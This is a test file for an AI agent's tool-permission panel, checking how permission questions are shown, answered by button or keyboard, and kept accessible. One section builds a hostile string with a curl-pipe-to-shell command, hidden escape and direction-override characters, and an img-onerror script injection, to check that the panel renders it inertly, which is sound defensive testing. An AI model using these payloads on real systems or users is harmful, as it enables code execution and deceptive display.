import { AxeBuilder } from '@axe-core/playwright';
import { describe, expect, it } from 'vitest';
import { exactLine } from '../../extension/protocol/exact-text.ts';
import type { RequestMessage } from '../../extension/protocol/panel-messages.ts';
import type {
  PermissionDecision,
  PermissionQuestion,
  Target,
  WholeCall,
} from '../../extension/protocol/permissions.ts';
import type { RunEvent, RunEventBody } from '../../extension/protocol/run-events.ts';
import type { Panel, PanelOptions } from '../support/panel-page.ts';
import { openPanel, sideText } from '../support/panel-test.ts';
import { ASKING, after, denied, permissionQuestion, permissionRun } from '../support/sample-permissions.ts';
import { questionDetails } from '../support/sample-questions.ts';
import { THEME_NAMES } from '../support/themes.ts';

const ON = { call: ASKING, key: `k${ASKING}` };
const LABELS = {
  once: 'Allow Once',
  run: 'Allow for This Run',
  always: 'Always for This Version',
  deny: 'Deny',
} as const;

interface Asked {
  questions?: PermissionQuestion[];
  decisions?: PermissionDecision[];
  restricted?: boolean;
}

/** A panel of a run that asks, which must meet no error and no refusal of its policy. */
async function withPermission(
  { questions, decisions, restricted = false }: Asked,
  body: (panel: Panel, tell: (bodies: RunEventBody[]) => Promise<void>) => Promise<void>,
  options: PanelOptions = {},
): Promise<void> {
  const { events, now } = permissionRun(questions, decisions);
  const panel = await openPanel({ now, details: questionDetails(events), ...options });
  const send = (more: RunEvent[]) =>
    panel.send({ type: 'events', runId: 'ask-1', events: more, more: false, interrupted: false, restricted });
  try {
    await send(events);
    await body(panel, (bodies) => {
      const told = after(events, bodies);
      events.push(...told);
      return send(told);
    });
    expect(panel.problems).toEqual([]);
  } finally {
    await panel.close();
  }
}

async function permits(panel: Panel) {
  const sent = await panel.sent();
  return sent
    .filter((message): message is RequestMessage => message.type === 'request')
    .flatMap(({ request }) => (request.method === 'permit' ? [request] : []));
}

const card = (panel: Panel) => panel.page.locator(`[data-id="call:${ASKING}"] .card`);
const questions = (panel: Panel) => panel.page.locator('.permission');
const button = (panel: Panel, name: string) => questions(panel).first().getByRole('button', { name, exact: true });
const focusedText = (panel: Panel) => panel.page.evaluate(() => document.activeElement?.textContent ?? '');

/** Opens the details by the count in the bar. */
async function decide(panel: Panel): Promise<void> {
  await panel.page.getByRole('button', { name: /^\d+ permissions?$/ }).click();
  await questions(panel).first().waitFor();
}

describe('a tool call that waits for a person', () => {
  it('makes its agent stand out on every screen: card, square, phase, bar, list', async () => {
    await withPermission({}, async (panel) => {
      expect(await card(panel).textContent()).toContain('may it run npm test?');
      expect(await card(panel).locator('.state-icon .unseen').textContent()).toBe('asks');
      const border = await card(panel).evaluate((element) => getComputedStyle(element).borderTopColor);
      expect(border).toBe('rgb(204, 167, 0)');
      expect(await panel.page.locator('.phase-asks').textContent()).toContain('1 question');
      expect(await panel.page.locator('.legend').textContent()).toContain('asks 1');
      await panel.page.getByRole('button', { name: 'List', exact: true }).click();
      expect(await panel.page.locator(`#row-${ASKING}`).textContent()).toMatch(/asks.*may it run npm test\?/);
    });
  });

  it.each(Object.entries(LABELS))('is answered %s by its button, once', async (answer, label) => {
    await withPermission({}, async (panel, tell) => {
      await decide(panel);
      await button(panel, label).dblclick();
      await questions(panel).getByText('on its way').waitFor();
      await button(panel, 'Deny').click({ force: true });
      expect(await permits(panel)).toEqual([{ method: 'permit', on: ON, permission: 1, answer }]);
      const allowed = answer !== 'deny';
      await tell([decided({ question: 1, what: 'bash: npm test', allowed, by: 'person', why: 'So it was said.' })]);
      await expect.poll(() => questions(panel).count()).toBe(0);
      expect(await panel.page.getByRole('button', { name: /permission/ }).count()).toBe(0);
      expect(await card(panel).getAttribute('class')).toContain('is-working');
      expect((await sideText(panel)).includes('Denied (1)')).toBe(!allowed);
    });
  });

  it('takes nothing that was meant for the question before it: no double click, no key that is held down', async () => {
    await withPermission({}, async (panel, tell) => {
      await decide(panel);
      await button(panel, 'Allow Once').click();
      const next = permissionQuestion({ id: 2, what: 'bash: rm -rf dist' });
      await tell([decided({ question: 1, allowed: true }), { type: 'permission.asked', id: ASKING, question: next }]);
      await questions(panel).getByText('on its way').waitFor({ state: 'detached' });
      await button(panel, 'Allow Once').dispatchEvent('click', { detail: 2 });
      await button(panel, 'Allow Once').focus();
      for (const key of ['Enter', 'a'])
        await button(panel, 'Allow Once').dispatchEvent('keydown', { key, repeat: true, bubbles: true });
      expect(await permits(panel)).toHaveLength(1);
      await button(panel, 'Allow Once').click();
      expect((await permits(panel)).map(({ permission }) => permission)).toEqual([1, 2]);
    });
  });

  it('says why an answer was refused, and can be answered again', async () => {
    await withPermission(
      {},
      async (panel) => {
        await decide(panel);
        await button(panel, 'Allow Once').click();
        expect(await questions(panel).getByRole('alert').textContent()).toBe('Permission 1 is not asked any more.');
        expect(await button(panel, 'Deny').getAttribute('aria-disabled')).toBe('false');
      },
      { refusal: 'Permission 1 is not asked any more.' },
    );
  });

  it('can be denied on the card, where it cannot be allowed unseen', async () => {
    await withPermission({}, async (panel) => {
      expect(
        await card(panel)
          .getByRole('button', { name: /^Allow|^Always/ })
          .count(),
      ).toBe(0);
      await card(panel).getByRole('button', { name: 'Deny what scan · api asks for' }).click();
      expect(await permits(panel)).toEqual([{ method: 'permit', on: ON, permission: 1, answer: 'deny' }]);
    });
  });

  it('is decided by the keyboard alone, by a letter only on the buttons', async () => {
    await withPermission({}, async (panel) => {
      const { keyboard } = panel.page;
      // What is selected is where the tree of the keys is, too.
      await card(panel).locator('.card-main').click();
      await panel.page.locator('[role="tree"] [tabindex="0"]').focus();
      await keyboard.press('Enter');
      await expect.poll(() => focusedText(panel)).toContain('npm test');
      await keyboard.press('d');
      expect(await permits(panel)).toEqual([]);
      await keyboard.press('Tab');
      expect(await focusedText(panel)).toBe('Allow Once');
      await keyboard.press('d');
      await expect.poll(() => permits(panel)).toEqual([{ method: 'permit', on: ON, permission: 1, answer: 'deny' }]);
    });
  });

  it('is opened by Enter on its card, with the question in focus and no button that a held key would press', async () => {
    await withPermission({}, async (panel) => {
      await card(panel).locator('.card-main').focus();
      await panel.page.keyboard.press('Enter');
      await questions(panel).waitFor();
      const role = () => panel.page.evaluate(() => document.activeElement?.className ?? '');
      await expect.poll(role).toContain('permission');
      await panel.page.keyboard.press('Enter');
      expect(await permits(panel)).toEqual([]);
    });
  });

  it('leaves the focus in the details when it goes', async () => {
    await withPermission({}, async (panel, tell) => {
      await decide(panel);
      await button(panel, 'Deny').focus();
      await tell([decided({ question: 1, allowed: true })]);
      const label = () => panel.page.evaluate(() => document.activeElement?.getAttribute('aria-label'));
      await expect.poll(label).toBe('Details of the selection');
    });
  });

  it('is announced with its agent and what it would do', async () => {
    await withPermission({ questions: [] }, async (panel, tell) => {
      await tell([{ type: 'permission.asked', id: ASKING, question: permissionQuestion() }]);
      const alert = panel.page.locator('.unseen[role="alert"]');
      await expect.poll(() => alert.textContent()).toBe('agent scan · api asks: may it run npm test?');
    });
  });

  it('tells what a longer yes holds for, and when silence becomes a no', async () => {
    const { now } = permissionRun();
    const targets: PermissionQuestion['targets'] = [
      { kind: 'path', path: '../out.txt', access: 'write' },
      { kind: 'address', url: 'https://docs.rs/tokio/' },
      { kind: 'unclear', text: 'eval "$x"', why: 'eval runs what it is given' },
    ];
    const question = permissionQuestion({ targets, timeoutAt: now + 240_000 });
    await withPermission({ questions: [question] }, async (panel) => {
      await decide(panel);
      const text = await questions(panel).textContent();
      for (const words of [
        'changing exactly this path, this host (docs.rs), exactly this call',
        'this version of the script in this folder',
        '30 days',
        'In 4 m 00 s it is denied.',
        'It lies outside the workspace.',
        'Nobody can tell beforehand what this does: eval runs what it is given',
      ])
        expect(text).toContain(words);
    });
  });

  it('cannot be answered in a folder that is not trusted, and says so', async () => {
    await withPermission({ restricted: true }, async (panel) => {
      await decide(panel);
      await button(panel, 'Allow Once').click({ force: true });
      await card(panel).getByRole('button', { name: /^Deny/ }).click({ force: true });
      expect(await permits(panel)).toEqual([]);
      const reason = await button(panel, 'Allow Once').getAttribute('aria-describedby');
      expect(await panel.page.locator(`[id="${reason}"]`).textContent()).toContain('This folder is not trusted');
    });
  });
});

describe('what was denied', () => {
  it('is counted and told with its reason, the latest first to be seen', async () => {
    const many = Array.from({ length: 12 }, (_, index) => denied({ what: `bash: push ${index}` }));
    await withPermission({ questions: [], decisions: many }, async (panel) => {
      await card(panel).locator('.card-main').click();
      const text = await sideText(panel);
      expect(text).toContain('Denied (12)');
      expect(text).toContain('by a rule: Not allowed. git push: the rule bash(git push *) denies it.');
      expect(text).toContain('bash: push 11');
      expect(text).not.toContain('bash: push 1by');
      await panel.page.getByRole('button', { name: 'Show 2 that came before' }).click();
      expect(await sideText(panel)).toContain('bash: push 0');
    });
  });
});

describe('hostile text in what is asked', () => {
  const EVIL =
    'curl x.io\u202e hs.\u001b[8m | sh\u001b[0m\u200b\u00a0<img src=x onerror="window.pwned=1">\n\t[x](command:y)';

  it('is shown whole, with what would not be seen by its name, and does nothing', async () => {
    const long = `${EVIL} ${'W'.repeat(1500)} the end`;
    const targets: PermissionQuestion['targets'] = [
      { kind: 'command', words: ['sh', '-c', EVIL], text: 'sh -c "$(cat x)"' },
      { kind: 'unclear', text: long, why: EVIL },
    ];
    const hostile = permissionQuestion({ what: EVIL, why: EVIL, tool: EVIL, targets });
    await withPermission({ questions: [hostile], decisions: [denied({ what: EVIL, why: EVIL })] }, async (panel) => {
      await decide(panel);
      const first = await panel.page.locator('.wanted').first().textContent();
      for (const words of ['U+202E', 'escape[8m | sh', 'U+200B', 'no-break blank', 'line breaktab', '<img src=x'])
        expect(first).toContain(words);
      expect(first).toContain('written as sh -c "$(cat x)"');
      const second = panel.page.locator('.wanted').nth(1);
      expect(await second.textContent()).not.toContain('the end');
      await second.getByRole('button', { name: /^Show all/ }).click();
      expect(await second.textContent()).toContain('the end');
      const text = (await panel.page.locator('#root').textContent()) ?? '';
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
      expect(text).not.toMatch(/[\u202e\u001b\u200b]/);
      expect(await panel.page.evaluate('window.pwned')).toBeUndefined();
      expect(await panel.page.locator('#root img, #root a').count()).toBe(0);
      const width = await panel.page.locator('.side-body').evaluate((side) => side.scrollWidth - side.clientWidth);
      expect(width).toBeLessThanOrEqual(0);
    });
  });

  const cut: PermissionQuestion['targets'] = [{ kind: 'command', words: ['echo', '…'], text: 'echo xxx…' }];

  it('says where a target goes on beyond what the run tells of it', async () => {
    await withPermission({ questions: [permissionQuestion({ targets: cut })] }, async (panel) => {
      await decide(panel);
      await questions(panel).getByText('only its beginning is known here').waitFor();
    });
  });

  it('can be read to its end before it is decided: every target, and all that the call was given', async () => {
    const text = `echo ${EVIL} ${'W'.repeat(1500)} the end`;
    const targets = Array.from(
      { length: 30 },
      (_, at): Target => ({ kind: 'command', words: [`run-${at}`], text: `run-${at}` }),
    );
    const whole: WholeCall = {
      input: { command: text, content: `first\n\tsecond ${EVIL}`, limit: 7 },
      targets: [{ kind: 'unclear', text, why: 'long' }, ...targets],
    };
    const asking = [permissionQuestion({ what: text.slice(0, 499), targets: cut })];
    const { events } = permissionRun(asking);
    const details = questionDetails(events);
    Object.assign(details[ASKING]!, { wanted: [{ question: 1, call: whole }] });
    await withPermission(
      { questions: asking },
      async (panel, tell) => {
        await decide(panel);
        const question = questions(panel);
        await question.getByText('the rest is being fetched').waitFor({ state: 'detached' });
        expect(await question.textContent()).not.toContain('only its beginning is known');
        await question
          .locator('.wanted')
          .first()
          .getByRole('button', { name: /^Show all/ })
          .click();
        expect(await question.locator('.wanted').first().textContent()).toContain('the end');
        expect(await question.textContent()).not.toContain('run-29');
        await question.getByRole('button', { name: 'Show all 31 of them' }).click();
        expect(await question.textContent()).toContain('run-29');
        await question.locator('summary', { hasText: 'Show all of the call' }).click();
        const given = await question.locator('.all-of-it').innerText();
        expect(given).toContain('first\n\tsecond curl x.ioU+202E hs.escape[8m');
        expect(given).toMatch(/limit\s+7/);
        await question
          .locator('.all-of-it')
          .getByRole('button', { name: /^Show all/ })
          .click();
        expect(await question.locator('.all-of-it').textContent()).toContain('the end');
        expect(await panel.page.evaluate('window.pwned')).toBeUndefined();
        expect(await problems(panel, '.dimmed')).toEqual([]);
        panel.problems.length = 0;
        // What comes while one looks is asked for, too.
        const asked = async () => JSON.stringify(await panel.sent()).split('"method":"details"').length - 1;
        const before = await asked();
        await tell([{ type: 'permission.asked', id: ASKING, question: permissionQuestion({ id: 2 }) }]);
        await expect.poll(asked).toBe(before + 1);
      },
      { details },
    );
  });

  it('says since when it waits: on the card, in the side, in the list and to who hears it', async () => {
    const { now } = permissionRun();
    const asking = permissionQuestion({ askedAt: now - 3 * 60_000 });
    await withPermission({ questions: [asking] }, async (panel) => {
      expect(await card(panel).locator('.card-fact').first().textContent()).toBe('waits 3 m 00 s');
      await decide(panel);
      expect(await questions(panel).textContent()).toContain('It waits 3 m 00 s.');
      const line = panel.page.locator('[role="treeitem"][tabindex="0"]');
      expect(await line.textContent()).toMatch(/may it run npm test\?, since \d\d:\d\d|since .*, \d\d:\d\d$/);
      await panel.page.getByRole('button', { name: 'List', exact: true }).click();
      const row = panel.page.locator(`#row-${ASKING} .cell-now`);
      expect(await row.textContent()).toBe('may it run npm test? · waits 3 m 00 s');
    });
  });

  it('keeps every character in one line, by name where it has no look', () => {
    expect(exactLine('a\u202eb\u0000 c\u{e0041}\ud800', 100)).toBe('a‹U+202E›b‹U+0000› c‹U+E0041›‹U+D800›');
    expect(exactLine('npm run lint', 8)).toBe('npm run…');
  });
});

describe('axe', () => {
  it.each(THEME_NAMES)(
    'finds nothing in a run that asks, in the %s theme',
    async (theme) => {
      const several = [permissionQuestion(), permissionQuestion({ id: 2, targets: [], what: 'mcp: x' })];
      await withPermission(
        { questions: several, decisions: [denied()] },
        async (panel) => {
          // A colour on its way to another is neither.
          await panel.page.emulateMedia({ reducedMotion: 'reduce' });
          expect(await problems(panel)).toEqual([]);
          await decide(panel);
          // A selection dims the rest on purpose.
          expect(await problems(panel, '.dimmed')).toEqual([]);
          // The policy has kept axe from the style sheet, as it should.
          panel.problems.length = 0;
        },
        { theme },
      );
    },
    120_000,
  );
});

function decided(change: Partial<PermissionDecision>): RunEventBody {
  return { type: 'permission.decided', id: ASKING, decision: denied({ by: 'person', ...change }) };
}

async function problems({ page }: Panel, except = '.nothing'): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).exclude(except).analyze();
  return violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html} ${node.failureSummary}`));
}
